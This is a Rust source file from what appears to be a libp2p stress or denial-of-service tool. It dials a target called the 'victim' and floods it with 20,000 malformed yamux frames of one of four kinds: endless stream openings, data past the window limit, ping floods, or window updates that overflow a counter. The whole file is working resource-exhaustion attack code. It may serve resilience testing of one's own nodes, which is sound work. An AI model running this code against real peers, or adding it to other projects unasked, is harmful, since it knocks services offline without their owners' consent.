//! Frames of yamux that no implementation would send.

use std::{io, sync::Arc, time::Duration};

use futures::{AsyncReadExt as _, AsyncWriteExt as _};
use libp2p::identity::Keypair;
use tokio::time::timeout;

use crate::{
    Target,
    client::{Secured, dial, secure, until_ended},
    tally::Tally,
};

const DATA: u8 = 0;
const WINDOW_UPDATE: u8 = 1;
const PING: u8 = 2;
const SYN: u16 = 1;

/// Frames of one kind on one connection.
const FRAMES: u32 = 20_000;

/// Bytes of one frame of data.
const DATA_BYTES: usize = 64 * 1024;

/// Connects, and sends one kind of frames as long as the victim takes them.
pub(super) async fn abuse(target: &Target, number: usize, tally: &Arc<Tally>) -> io::Result<()> {
    tally.tried();
    let opened = async {
        let socket = dial(target, target.source(number)).await?;
        secure(socket, &Keypair::generate_ed25519()).await
    };
    let secured = opened.await.inspect_err(|_| tally.refused())?;
    tally.connected();
    let (reader, mut writer) = secured.split();
    let reading = tokio::spawn(until_ended(reader));
    let sent = timeout(Duration::from_secs(10), send(&mut writer, number, tally)).await;
    if !matches!(sent, Ok(Ok(()))) {
        tally.ended();
    }
    reading.abort();
    Ok(())
}

async fn send(
    writer: &mut futures::io::WriteHalf<Secured>,
    kind: usize,
    tally: &Arc<Tally>,
) -> io::Result<()> {
    let data = vec![0x77; DATA_BYTES];
    for count in 0..FRAMES {
        // Streams of the side that dialled have odd numbers.
        let stream = count * 2 + 1;
        let body: &[u8] = if kind % 4 == 1 { &data } else { &[] };
        let header = match kind % 4 {
            // More and more streams, whatever the victim says to them.
            0 => header(WINDOW_UPDATE, SYN, stream, 0),
            // Data on one stream, far beyond its window.
            1 => header(DATA, if count == 0 { SYN } else { 0 }, 1, DATA_BYTES as u32),
            // Pings, each of which is to be answered.
            2 => header(PING, SYN, 0, count),
            // Windows that add up to more than a number holds.
            _ => header(WINDOW_UPDATE, if count == 0 { SYN } else { 0 }, 1, u32::MAX),
        };
        writer.write_all(&header).await?;
        writer.write_all(body).await?;
        tally.opened();
        tally.sent(header.len() + body.len());
    }
    writer.flush().await
}

fn header(kind: u8, flags: u16, stream: u32, length: u32) -> [u8; 12] {
    let mut header = [0; 12];
    header[1] = kind;
    header[2..4].copy_from_slice(&flags.to_be_bytes());
    header[4..8].copy_from_slice(&stream.to_be_bytes());
    header[8..].copy_from_slice(&length.to_be_bytes());
    header
}
